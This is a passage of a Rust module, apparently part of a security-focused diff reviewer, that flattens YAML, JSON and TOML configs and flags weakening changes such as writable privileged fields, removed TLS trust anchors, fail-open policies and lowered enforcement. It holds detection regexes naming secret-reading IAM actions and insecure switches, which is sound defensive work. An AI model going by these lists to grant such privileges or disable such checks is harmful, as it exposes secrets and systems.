//! Structured configs compared as trees of keys and values, not lines: YAML,
//! JSON and TOML are parsed on both sides and flattened to `a.b[name].c`
//! paths, so a value moved, re-indented or re-quoted is not a change and a
//! value that changed is named with its key, before and after. nginx-style
//! configs (directives ending in `;`) are compared directive by directive.
//!
//! The rules read keys by what they mean (security switches, approvals,
//! branch filters, rollouts, network ranges, rate limits, retries), not by
//! the file they are in.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::sync::LazyLock;

use regex::Regex;

use super::{ChangeView, FileView, Finding, Severity, Side, quote};

/// A flattened tree: path → scalar value as text.
pub type Flat = BTreeMap<String, String>;

/// One difference between the two trees.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Change {
    Removed(String, String),
    Added(String, String),
    Changed(String, String, String),
}

/// The kind of structured text a path holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Yaml,
    Json,
    Toml,
    Nginx,
}

impl Format {
    /// The format of a path, from its name.
    pub fn of(path: &str) -> Option<Format> {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        // A template of a format (`policy.json.tpl`, `values.yaml.j2`) is
        // read as that format when it parses (placeholders inside strings).
        let name = ["tpl", "tmpl", "j2", "jinja", "template"]
            .iter()
            .find_map(|t| name.strip_suffix(&format!(".{t}")))
            .map_or(name.clone(), str::to_string);
        let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
        match ext {
            "yml" | "yaml" => Some(Format::Yaml),
            "json" if !name.ends_with("-lock.json") && !name.ends_with(".lock.json") => {
                Some(Format::Json)
            }
            "toml" => Some(Format::Toml),
            "conf" | "nginx" if !name.ends_with("tsconfig") => Some(Format::Nginx),
            _ if name == "caddyfile" || path.contains("nginx") && ext.is_empty() => {
                Some(Format::Nginx)
            }
            _ => None,
        }
    }
}

/// Flattens a text of `format` (`None` when it does not parse).
pub fn flatten(format: Format, text: &str) -> Option<Flat> {
    let mut out = Flat::new();
    match format {
        Format::Json => {
            let v: serde_json::Value = serde_json::from_str(text).ok()?;
            flat_json(&v, String::new(), &mut out);
        }
        Format::Toml => {
            let v: toml::Value = toml::from_str(text).ok()?;
            flat_toml(&v, String::new(), &mut out);
        }
        Format::Yaml => {
            let docs = yaml_rust::YamlLoader::load_from_str(text).ok()?;
            let many = docs.len() > 1;
            for (i, d) in docs.iter().enumerate() {
                let prefix = if many {
                    format!("[{i}]")
                } else {
                    String::new()
                };
                flat_yaml(d, prefix, &mut out);
            }
        }
        Format::Nginx => return None,
    }
    Some(out)
}

fn join(prefix: &str, key: &str) -> String {
    if prefix.is_empty() {
        key.to_string()
    } else {
        format!("{prefix}.{key}")
    }
}

/// An array element's identity: its `name`/`id`/`key`, else its index.
fn element_id(name: Option<String>, i: usize) -> String {
    name.map_or_else(|| format!("[{i}]"), |n| format!("[{n}]"))
}

fn flat_json(v: &serde_json::Value, p: String, out: &mut Flat) {
    use serde_json::Value;
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                flat_json(x, join(&p, k), out);
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                if x.is_object() || x.is_array() {
                    let id = ["name", "id", "key"]
                        .iter()
                        .find_map(|k| x.get(k).and_then(|s| s.as_str()).map(str::to_string));
                    flat_json(x, format!("{p}{}", element_id(id, i)), out);
                } else {
                    out.insert(format!("{p}[{}]", scalar_json(x)), scalar_json(x));
                }
            }
        }
        x => {
            out.insert(p, scalar_json(x));
        }
    }
}

fn scalar_json(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => s.clone(),
        x => x.to_string(),
    }
}

fn flat_toml(v: &toml::Value, p: String, out: &mut Flat) {
    use toml::Value;
    match v {
        Value::Table(m) => {
            for (k, x) in m {
                flat_toml(x, join(&p, k), out);
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                if x.is_table() || x.is_array() {
                    let id = ["name", "id", "key"]
                        .iter()
                        .find_map(|k| x.get(k).and_then(|s| s.as_str()).map(str::to_string));
                    flat_toml(x, format!("{p}{}", element_id(id, i)), out);
                } else {
                    let s = scalar_toml(x);
                    out.insert(format!("{p}[{s}]"), s);
                }
            }
        }
        x => {
            out.insert(p, scalar_toml(x));
        }
    }
}

fn scalar_toml(v: &toml::Value) -> String {
    match v {
        toml::Value::String(s) => s.clone(),
        x => x.to_string(),
    }
}

fn flat_yaml(v: &yaml_rust::Yaml, p: String, out: &mut Flat) {
    use yaml_rust::Yaml;
    match v {
        Yaml::Hash(m) => {
            // `<<: *defaults` merges another mapping in; the mapping's own
            // keys win, and among merged ones the first listed.
            let merge = Yaml::String("<<".into());
            if let Some(base) = m.get(&merge) {
                let bases: Vec<&Yaml> = match base {
                    Yaml::Array(a) => a.iter().rev().collect(),
                    x => vec![x],
                };
                for b in bases {
                    if let Yaml::Hash(bm) = b {
                        for (k, x) in bm.iter().filter(|(k, _)| !m.contains_key(k)) {
                            flat_yaml(x, join(&p, &scalar_yaml(k)), out);
                        }
                    }
                }
            }
            for (k, x) in m.iter().filter(|(k, _)| **k != merge) {
                let key = scalar_yaml(k);
                flat_yaml(x, join(&p, &key), out);
            }
        }
        Yaml::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                match x {
                    Yaml::Hash(h) => {
                        let id = ["name", "id", "key"].iter().find_map(|k| {
                            h.get(&Yaml::String((*k).to_string()))
                                .and_then(|s| s.as_str())
                                .map(str::to_string)
                        });
                        flat_yaml(x, format!("{p}{}", element_id(id, i)), out);
                    }
                    Yaml::Array(_) => flat_yaml(x, format!("{p}[{i}]"), out),
                    s => {
                        let s = scalar_yaml(s);
                        out.insert(format!("{p}[{s}]"), s);
                    }
                }
            }
        }
        Yaml::Null if !p.is_empty() => {
            out.insert(p, "null".into());
        }
        Yaml::BadValue | Yaml::Null => {}
        x => {
            out.insert(p, scalar_yaml(x));
        }
    }
}

fn scalar_yaml(v: &yaml_rust::Yaml) -> String {
    use yaml_rust::Yaml;
    match v {
        Yaml::String(s) | Yaml::Real(s) => s.clone(),
        Yaml::Integer(i) => i.to_string(),
        Yaml::Boolean(b) => b.to_string(),
        Yaml::Null => "null".into(),
        _ => String::new(),
    }
}

/// The differences between two flattened trees, in path order. Items of a
/// list that grew or shrank are matched by content first, so a step
/// inserted in the middle is one new step, not every later step changed.
pub fn compare(old: &Flat, new: &Flat) -> Vec<Change> {
    let aligned = align_lists(old, new);
    let new = aligned.as_ref().unwrap_or(new);
    let mut out = Vec::new();
    for (k, v) in old {
        match new.get(k) {
            None => out.push(Change::Removed(k.clone(), v.clone())),
            Some(w) if w != v => out.push(Change::Changed(k.clone(), v.clone(), w.clone())),
            _ => {}
        }
    }
    for (k, v) in new {
        if !old.contains_key(k) {
            out.push(Change::Added(k.clone(), v.clone()));
        }
    }
    out
}

/// A key split at its first numbered list item: `jobs.build.steps[3].run` →
/// (`jobs.build.steps`, 3, `.run`).
fn list_item(key: &str) -> Option<(&str, usize, &str)> {
    let open = key.find('[')?;
    let close = open + key[open..].find(']')?;
    let idx: usize = key[open + 1..close].parse().ok()?;
    Some((&key[..open], idx, &key[close + 1..]))
}

/// One side's numbered list items: list path → index → the item's own keys.
type Items<'a> = BTreeMap<&'a str, BTreeMap<usize, BTreeMap<&'a str, &'a str>>>;

fn items(flat: &Flat) -> Items<'_> {
    let mut out: Items<'_> = BTreeMap::new();
    for (k, v) in flat {
        if let Some((list, i, rest)) = list_item(k) {
            out.entry(list)
                .or_default()
                .entry(i)
                .or_default()
                .insert(rest, v.as_str());
        }
    }
    out
}

/// `new` with the items of each list that changed length renumbered to the
/// old item each one matches: equal items (longest common subsequence) keep
/// their old number, items between two such anchors pair up in order (the
/// same step edited), and items left over get numbers no old item has.
/// `None` when no list changed length.
fn align_lists(old: &Flat, new: &Flat) -> Option<Flat> {
    let (a, b) = (items(old), items(new));
    let mut renumber: BTreeMap<(&str, usize), usize> = BTreeMap::new();
    for (list, new_items) in &b {
        let Some(old_items) = a.get(list) else {
            continue;
        };
        if old_items.len() == new_items.len() || old_items.len() > 64 || new_items.len() > 64 {
            continue;
        }
        let xs: Vec<(&usize, _)> = old_items.iter().collect();
        let ys: Vec<(&usize, _)> = new_items.iter().collect();
        // Longest common subsequence of equal items.
        let (n, m) = (xs.len(), ys.len());
        let mut t = vec![vec![0u16; m + 1]; n + 1];
        for i in (0..n).rev() {
            for j in (0..m).rev() {
                t[i][j] = if xs[i].1 == ys[j].1 {
                    t[i + 1][j + 1] + 1
                } else {
                    t[i + 1][j].max(t[i][j + 1])
                };
            }
        }
        let mut fresh = old_items.keys().max().map_or(0, |k| k + 1);
        let (mut i, mut j) = (0, 0);
        let mut gap_old: Vec<usize> = Vec::new();
        let mut gap_new: Vec<usize> = Vec::new();
        let mut pairs: Vec<(usize, usize)> = Vec::new();
        while i < n || j < m {
            if i < n && j < m && xs[i].1 == ys[j].1 {
                close_gap(&mut gap_old, &mut gap_new, &mut fresh, &mut pairs);
                pairs.push((*ys[j].0, *xs[i].0));
                i += 1;
                j += 1;
            } else if j < m && (i == n || t[i][j + 1] >= t[i + 1][j]) {
                gap_new.push(*ys[j].0);
                j += 1;
            } else {
                gap_old.push(*xs[i].0);
                i += 1;
            }
        }
        close_gap(&mut gap_old, &mut gap_new, &mut fresh, &mut pairs);
        for (nj, to) in pairs {
            renumber.insert((list, nj), to);
        }
    }
    if renumber.is_empty() {
        return None;
    }
    Some(
        new.iter()
            .map(|(k, v)| match list_item(k) {
                Some((list, idx, rest)) => match renumber.get(&(list, idx)) {
                    Some(to) => (format!("{list}[{to}]{rest}"), v.clone()),
                    None => (k.clone(), v.clone()),
                },
                None => (k.clone(), v.clone()),
            })
            .collect(),
    )
}

/// Fields that decide what a caller may do or whose data it is: a client
/// must never set them on itself.
pub static PRIVILEGED_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(roles?|is_?admin|admin|is_?staff|is_?superuser|superuser|permissions?|scopes?|(org|organi[sz]ation|tenant|account|owner|workspace)_?id|is_?owner|(email_?)?verified|is_?verified|is_?approved|balance|credits?|plan|tier|price|discount\w*)$").unwrap()
});

/// A request schema (what a client may send: JSON Schema, an OpenAPI
/// request body) that now accepts a role, an owner or a tenant: whatever
/// the handler applies from it, the client sets on itself.
fn privileged_field_writable(f: &FileView<'_>, a: &Flat, b: &Flat, out: &mut Vec<Finding>) {
    let lower = f.path.to_ascii_lowercase();
    let request_file = [
        "request", "update", "create", "input", "patch", "payload", "form", "body",
    ]
    .iter()
    .any(|w| lower.rsplit('/').next().is_some_and(|n| n.contains(w)));
    for k in b.keys().filter(|k| !a.contains_key(*k)) {
        let segs: Vec<&str> = k.split('.').collect();
        let Some(i) = segs.iter().position(|s| *s == "properties") else {
            continue;
        };
        let Some(field) = segs.get(i + 1) else {
            continue;
        };
        let in_request = request_file
            || segs[..i]
                .iter()
                .any(|s| s.eq_ignore_ascii_case("requestBody"));
        let read_only = b
            .get(&format!("{}.readOnly", segs[..=i + 1].join(".")))
            .is_some_and(|v| v == "true");
        let existed = a
            .keys()
            .any(|x| x.starts_with(&format!("{}.", segs[..=i + 1].join("."))));
        if !in_request || read_only || existed || !PRIVILEGED_FIELD.is_match(field) {
            continue;
        }
        out.push(Finding::added(
            "sec-mass-assignment",
            Severity::High,
            f.path,
            locate(f, k, b.get(k).map_or("", String::as_str), true),
            format!(
                "The request schema now accepts `{field}`: a client can set it on its own record (its role, its owner, its tenant), and the handler applies what the schema lets through."
            ),
        ));
        return;
    }
}

/// Values of a mode that enforce, and values that only allow or report.
static ENFORCING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(strict|enforc(e|ed|ing)|required?|mandatory|block(ing)?|deny|reject|drop|prevent(ion)?|verify[-_](full|ca)|restricted|on|always)$").unwrap()
});
static LENIENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(permissive|optional|prefer(red)?|allow(ed)?|audit|detect(ion)?|count|warn(ing)?|dry_?run|log(ging)?(_?only)?|monitor(ing)?|disabled?|off|none|privileged|baseline|report(_?only)?|simulate|passive|never|unrestricted)$").unwrap()
});

/// Whether a mode went from enforcing to only allowing or reporting.
fn enforcement_lowered(before: &str, after: &str) -> bool {
    let (x, y) = (before.trim(), after.trim());
    // `on` → `auto` is not lowered; `on` → `off` is.
    ENFORCING.is_match(x)
        && LENIENT.is_match(y)
        && (!x.eq_ignore_ascii_case("on") || y.eq_ignore_ascii_case("off"))
}

/// What a TLS client checks the server's certificate against: a CA bundle,
/// a validation context, the names it must carry, pinned keys.
static TRUST_ANCHOR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(validation_context\w*|trusted_ca|verify_subject_alt_name|match_(typed_)?subject_alt_names|ca_?file|ca_?certs?|ca_?certificates?|ca_?bundle|ca_?path|cacert|root_?cas?|ssl_?ca(_\w+)?|tls_?ca(_\w+)?|trust_?store\w*|server_?ca\w*|certificate_?pins?|pinned_\w+|spki_\w+|verify_certificate_(hash|spki))$").unwrap()
});

/// A TLS client configuration that keeps its TLS settings but loses what it
/// checked the peer against: still encrypted, no longer authenticated, so
/// anyone on the path can present their own certificate.
fn trust_anchor_removed(f: &FileView<'_>, a: &Flat, b: &Flat, out: &mut Vec<Finding>) {
    for path in a.keys() {
        let segs: Vec<&str> = path.split('.').collect();
        let Some(at) = segs.iter().position(|s| TRUST_ANCHOR.is_match(s)) else {
            continue;
        };
        let anchor = segs[..=at].join(".");
        if b.keys().any(|k| {
            k == &anchor
                || k.starts_with(&format!("{anchor}."))
                || k.starts_with(&format!("{anchor}["))
        }) {
            continue;
        }
        // The TLS settings around it are still there: a removal inside a
        // living configuration, not the whole client removed.
        let parent = segs[..at].join(".");
        if at == 0 || !b.keys().any(|k| k.starts_with(&format!("{parent}."))) {
            continue;
        }
        let line = locate(f, path, a.get(path).map_or("", String::as_str), false);
        out.push(Finding::removed(
            "tls-trust-removed",
            Severity::High,
            f.path,
            line,
            format!(
                "`{}` is removed while `{}` stays: the connection is still encrypted but no longer checks whose certificate it gets, so anyone on the path can answer in the server's name.",
                quote(&anchor),
                quote(&parent)
            ),
        ));
        return;
    }
}

/// Pairs the new items of a gap between two anchors with its old items in
/// order; new items beyond them get fresh numbers.
fn close_gap(
    gap_old: &mut Vec<usize>,
    gap_new: &mut Vec<usize>,
    fresh: &mut usize,
    pairs: &mut Vec<(usize, usize)>,
) {
    for (k, nj) in gap_new.drain(..).enumerate() {
        let to = gap_old.get(k).copied().unwrap_or_else(|| {
            *fresh += 1;
            *fresh - 1
        });
        pairs.push((nj, to));
    }
    gap_old.clear();
}

static SWITCH_ON_IS_SAFE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(verify|ssl|tls|secure|run_?as_?non_?root|read_?only_?root_?filesystem|httponly|http_only|csrf|sandbox|strict|auth\w*|enforc(e|ed|ing|ement)|protect\w*|mfa|2fa|encrypt\w*|sign(ed|ing|ature)?|require\w*|validate\w*|check\w*|enabled_?checks|approval\w*|prevent_destroy|deletion_protection|block\w*|restrict\w*|ignore_?public\w*|scan\w*|lint)$").unwrap()
});
static SWITCH_ON_IS_UNSAFE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(insecure\w*|skip\w*|disable\w*|allow_?(all|any|anonymous|public|http|insecure)\w*|permissive|public\w*|anonymous\w*|debug|bypass\w*|no_?verify|trust_?all\w*|continue[_-]on[_-]error|force\w*|auto_?approve|automerge)$").unwrap()
});
/// Whether switching `key` on makes things safer (`verifySsl`,
/// `BlockPublicAcls`) or less safe (`insecureSkipVerify`, `allowPublic`);
/// `None` for keys that are neither. A key that reads both ways is read
/// by its leading word: `BlockPublicAcls` blocks.
pub(crate) fn switch_on_is_safe(key: &str) -> Option<bool> {
    // Skipping a step that checks nothing (tox's `skip_install`, a
    // packager's `skip_build`) is no safety switch.
    static SKIPS_NO_CHECK: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)(^|[._-])skip[_-]?(install|build|download|cache|docs?|packag\w*|empty\w*|missing\w*|existing|unchanged|duplicates?|pull|readme|changelog|examples?|sdist|wheel|missing_interpreters)$").unwrap()
    });
    if SKIPS_NO_CHECK.is_match(key) {
        return None;
    }
    // The attack a switch protects against is no part of the switch:
    // `bruteForceProtected` is a protection, not a force.
    static ATTACK_NAME: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?i)brute[_-]?force").unwrap());
    let key = ATTACK_NAME.replace_all(key, "");
    let safe = SWITCH_ON_IS_SAFE.find(&key).map(|m| m.start());
    let unsafe_ = SWITCH_ON_IS_UNSAFE.find(&key).map(|m| m.start());
    match (safe, unsafe_) {
        (Some(a), Some(b)) => Some(a <= b),
        (Some(_), None) => Some(true),
        (None, Some(_)) => Some(false),
        (None, None) => None,
    }
}

/// Keys that say what happens when a check itself fails: `true` (or
/// `Ignore`/`allow`) lets the request through unchecked — fail open.
static FAIL_OPEN_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(fail(ure)?_?(mode_?)?(allow|open)\w*|allow_?on_?(failure|error)|open_?on_?(failure|error)|skip_?on_?(failure|error))$").unwrap()
});
/// Keys where `true` keeps a failing check closed (the request is refused).
static FAIL_CLOSED_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(fail(ure)?_?(mode_?)?(deny|closed?)\w*|deny_?on_?(failure|error))$").unwrap()
});
/// Enum-valued failure policies (Kubernetes admission webhooks', Kyverno's
/// and Gatekeeper's `failurePolicy`): the value names the side.
static FAILURE_POLICY_KEY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)^(failure_?policy|error_?policy)$").unwrap());

/// True when a change of `key` from `before` to `after` makes a check fail
/// open: when the checker is slow or down, what it guards goes through.
fn fails_open(key: &str, before: Option<&str>, after: Option<&str>) -> bool {
    let open_value = |v: &str| {
        matches!(
            v.trim().to_ascii_lowercase().as_str(),
            "ignore" | "allow" | "pass" | "open" | "continue" | "skip"
        )
    };
    if FAIL_OPEN_KEY.is_match(key) {
        return after.is_some_and(truthy) && !before.is_some_and(truthy);
    }
    if FAIL_CLOSED_KEY.is_match(key) {
        return before.is_some_and(truthy) && !after.is_some_and(truthy);
    }
    FAILURE_POLICY_KEY.is_match(key)
        && after.is_some_and(open_value)
        && !before.is_some_and(open_value)
}
static APPROVAL_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(approv\w*|reviewers?|required_reviewers|manual|when|environment|protection\w*|needs|required_status_checks|codeowners?)$").unwrap()
});
/// Names of jobs that are a person's approval.
static APPROVAL_JOB: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(approv|manual|gate|sign.?off|confirm|review)").unwrap());
static BRANCH_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(^|\.)(branches|branch|only|refs|tags|on\.push|if|rules|target_branch)(\[[^\]]*\])?$",
    )
    .unwrap()
});
static ROLLOUT_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(rollout\w*|percent\w*|traffic\w*|weight|canary\w*|ramp\w*|sample_?rate|fraction|exposure|audience)$").unwrap()
});
/// A key that names an environment.
static ENV_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)^(production|prod|staging|stage|canary|dev|development|qa|test|preview|sandbox)$",
    )
    .unwrap()
});
/// A file of feature flags or rollouts.
static FLAG_FILE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(flag|rollout|feature|toggle|experiment)").unwrap());
/// Health paths that check dependencies (readiness, deep checks).
static LIVENESS_DEEP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(ready|readiness|deep|deps|dependenc|database|\bdb\b|full)").unwrap()
});
/// Retry policies of proxies and meshes (Envoy, Istio, Linkerd, Traefik).
static RETRY_POLICY: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\.(retry_policy|retryPolicy|retries|retry)\b").unwrap());

/// IAM actions that hand out power: passing roles, assuming them, writing
/// policies, reading secrets and keys, or everything.
static IAM_POWERFUL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(\*|iam:(\*|PassRole|Put\w*Policy|Attach\w*Policy|Create\w*|Update\w*)|sts:(\*|AssumeRole\w*)|\w+:\*|secretsmanager:GetSecretValue|kms:(Decrypt|\*)|ssm:GetParameter\w*|s3:(Get|Put|Delete)\w*)$").unwrap()
});

/// Words of a key path that name who may connect (`ingress[0].from`,
/// `loadBalancerSourceRanges`, `allowed_origins`), compared as whole words:
/// an IAM `Resource` is no `source`.
const NETWORK_WORDS: &[&str] = &[
    "cidr",
    "cidrs",
    "source",
    "sources",
    "allow",
    "allowed",
    "allowlist",
    "ingress",
    "ip",
    "ips",
    "ipv4",
    "ipv6",
    "from",
    "range",
    "ranges",
    "origin",
    "origins",
    "host",
    "hosts",
    "remote",
    "network",
    "networks",
    "whitelist",
    "block",
    "blocks",
];

/// Whether the event a workflow's branch filter belonged to (`on.push` of
/// `on.push.branches[main]`) no longer starts the workflow at all: the
/// filter went with its trigger, which narrows what runs.
fn trigger_gone(path: &str, new: &Flat) -> bool {
    let Some(rest) = path.strip_prefix("on.") else {
        return false;
    };
    let Some(event) = rest.split(['.', '[']).next().filter(|e| !e.is_empty()) else {
        return false;
    };
    let trigger = format!("on.{event}");
    // `on.push…` still there, or the event listed (`on: [push]`).
    !new.iter().any(|(k, v)| {
        k.strip_prefix(trigger.as_str())
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(['.', '[']))
            || (k == "on" || k.starts_with("on["))
                && v.split([',', '[', ']', ' '])
                    .any(|w| w.trim_matches(['"', '\'']) == event)
    })
}

/// True when the CI job a key belongs to (`jobs.deploy.if`, or GitLab's
/// top-level `deploy.rules[0].if`) is gone from the new file with its
/// commands: its branch filter went with it, so nothing now runs for more
/// branches. A job whose commands now run in another job is not gone: they
/// run there without its filter.
fn job_gone(path: &str, old: &Flat, new: &Flat) -> bool {
    let mut parts = path.split(['.', '[']);
    let first = parts.next().unwrap_or("");
    let job = match first {
        "jobs" => match parts.next() {
            Some(name) => format!("jobs.{name}"),
            None => return false,
        },
        "on" | "workflow" | "trigger" | "pr" | "branches" | "" => return false,
        _ if path.contains('.') || path.contains('[') => first.to_string(),
        _ => return false,
    };
    let in_job = |k: &str| {
        k == job
            || k.strip_prefix(job.as_str())
                .is_some_and(|rest| rest.starts_with('.') || rest.starts_with('['))
    };
    let command = |k: &str| {
        let last = k.rsplit('.').next().unwrap_or(k);
        let last = last.split('[').next().unwrap_or(last);
        matches!(last, "run" | "script" | "command" | "commands" | "uses")
    };
    let moved = old.iter().any(|(k, v)| {
        in_job(k)
            && command(k)
            && v.trim().len() > 8
            && !v.trim().starts_with("actions/")
            && new.values().any(|w| w.trim() == v.trim())
    });
    !new.keys().any(|k| in_job(k)) && !moved
}

/// Whether a key path names who may connect, word by word (snake, kebab
/// and camel case split).
fn network_key(path: &str) -> bool {
    let mut words: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for c in path.chars() {
        if !c.is_alphanumeric() {
            words.push(std::mem::take(&mut cur));
            prev_lower = false;
            continue;
        }
        if c.is_uppercase() && prev_lower {
            words.push(std::mem::take(&mut cur));
        }
        prev_lower = c.is_lowercase() || c.is_ascii_digit();
        cur.push(c.to_ascii_lowercase());
    }
    words.push(cur);
    words.iter().any(|w| NETWORK_WORDS.contains(&w.as_str()))
}
static LIMIT_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(rate_?limit\w*|throttl\w*|limit_req|max_?requests\w*|requests_per\w*|burst|quota\w*|max_?connections)").unwrap()
});
static RETRY_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(retr(y|ies)\w*|attempts|timeout\w*|deadline\w*|backoff\w*|max_?tries)$")
        .unwrap()
});
static MONEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(pay|charge|billing|invoice|checkout|order|ledger|transfer|post\b|webhook)")
        .unwrap()
});
static PRODUCTION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)(prod|production|live|global|default|all)").unwrap());
static NOT_PRODUCTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(\bdev\b|develop|staging|stage|test|qa|sandbox|local|preview|canary)").unwrap()
});

fn falsy(v: &str) -> bool {
    matches!(
        v.trim().to_ascii_lowercase().as_str(),
        "false"
            | "off"
            | "no"
            | "0"
            | "none"
            | "null"
            | "disabled"
            | "disable"
            | "\"\""
            | ""
            | "never"
            | "optional"
    )
}

fn truthy(v: &str) -> bool {
    matches!(
        v.trim().to_ascii_lowercase().as_str(),
        "true" | "on" | "yes" | "1" | "enabled" | "enable" | "always" | "required"
    )
}

/// A value with its variables blanked (`$ECS_SERVICE`, `${SERVICE}`,
/// `${{ inputs.service }}` all read `$V`) and its layout collapsed: a step
/// moved into a composite action or a module reads its settings under new
/// names and is otherwise the same.
fn with_variables_blanked(v: &str) -> String {
    static VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\$\{\{[^}]*\}\}|\$\{\w+\}|\$\w+|\bvar\.[\w.]+").expect("a valid regex")
    });
    VARIABLE
        .replace_all(v, "$$V")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// The values of the structured files the change creates, by last key, with
/// their variables blanked: where settings a change takes out of one file
/// went when it moved them into a new composite action, module or include.
fn values_of_created_files(change: &ChangeView<'_>, format: Format) -> HashSet<(String, String)> {
    let mut out = HashSet::new();
    for g in &change.files {
        if g.old_text().is_some() || Format::of(g.path) != Some(format) {
            continue;
        }
        let Some(flat) = g.new_text().and_then(|t| flatten(format, t)) else {
            continue;
        };
        out.extend(
            flat.iter()
                .map(|(k, v)| (last_key(k).to_string(), with_variables_blanked(v))),
        );
    }
    out
}

fn last_key(path: &str) -> &str {
    let p = path;
    // `a.b[x]` → `b`; `a.b` → `b`.
    let base = match p.rfind('[') {
        Some(i) if p.ends_with(']') && !p[..i].is_empty() => &p[..i],
        _ => p,
    };
    base.rsplit('.').next().unwrap_or(base)
}

fn number(v: &str) -> Option<f64> {
    let t = v.trim().trim_end_matches('%').trim_end_matches('s');
    t.parse().ok()
}

/// The line where a key (and value) shows in the diff: added lines first.
fn locate(f: &FileView<'_>, key: &str, value: &str, new_side: bool) -> Option<u32> {
    let lines = if new_side { &f.added } else { &f.removed };
    let key = last_key(key);
    lines
        .iter()
        .find(|l| l.text.contains(key) && (value.is_empty() || l.text.contains(value)))
        .or_else(|| lines.iter().find(|l| l.text.contains(key)))
        .or_else(|| {
            (!value.is_empty())
                .then(|| lines.iter().find(|l| l.text.contains(value)))
                .flatten()
        })
        .map(|l| l.no)
}

/// Keys whose value names another object (a Kubernetes Secret, ConfigMap,
/// volume claim or service account, a chart's name override) rather than
/// setting a behaviour.
static REFERENCE_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^(existing_?(secret|config_?map|claim)\w*|\w*secret_?name|\w*config_?map_?name|claim_?name|service_?account(_?name)?|(full)?name_?override|\w+_?ref_?name)$|(secret|config_?map)(_?key)?_?ref\.name$").unwrap()
});
static SLUG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$").unwrap());
static ENVIRONMENT_WORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(^|[-_.])(prod|production|prd|live|staging|stage|stg|dev|development|qa|test|sandbox)([-_.]|$)").unwrap()
});

/// True when `path` changes from `x` to `y` only by renaming the object it
/// points to: a reference key, object-name values, and no environment named
/// on the new side that the old side did not name (pointing staging at a
/// production secret is not a rename).
/// A name renamed: both values single words of a name's characters that
/// share a word (`PurgeAccountsWorker` → `PurgeSoftDeletedAccountsJob`,
/// `BackupTooOld` → `PostgresBackupStale`).
/// The environments a value names (`orders-db-staging` → staging).
fn environments(v: &str) -> Vec<String> {
    ENVIRONMENT_WORD
        .captures_iter(v)
        .map(|c| c[2].to_ascii_lowercase())
        .collect()
}

fn renamed_name(key: &str, x: &str, y: &str) -> bool {
    static NAME_KEY: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)^(name|alert|record|class|job|task_?id|title|worker|handler|display_?name|job_?name)$").unwrap()
    });
    if !NAME_KEY.is_match(key) {
        return false;
    }
    let name = |v: &str| {
        !v.is_empty()
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
            && v.chars().any(|c| c.is_ascii_alphabetic())
    };
    name(x)
        && name(y)
        && super::behaviour::share_word(x, y)
        && !truthy(x)
        && !falsy(x)
        && environments(y).iter().all(|e| environments(x).contains(e))
}

fn renamed_reference(path: &str, x: &str, y: &str) -> bool {
    let tail = path.rsplit('.').take(2).collect::<Vec<_>>();
    let key = last_key(path);
    let two = format!("{}.{}", tail.get(1).copied().unwrap_or(""), tail[0]);
    (REFERENCE_KEY.is_match(key) || REFERENCE_KEY.is_match(&two))
        && SLUG.is_match(x)
        && SLUG.is_match(y)
        && environments(y).iter().all(|e| environments(x).contains(e))
}

/// Keys the change renamed: a subtree that left one name and reappeared
/// under another with its leaves unchanged (`jobs.lint.*` → `jobs.checks.*`),
/// as (depth, old name, new name) with how many leaves moved.
fn renamed_keys(changes: &[Change]) -> HashMap<(usize, String, String), u32> {
    let segments = |p: &str| -> Vec<String> {
        p.split(['.', '[', ']'])
            .filter(|s| !s.is_empty())
            .map(str::to_string)
            .collect()
    };
    let mut votes: HashMap<(usize, String, String), u32> = HashMap::new();
    for c in changes {
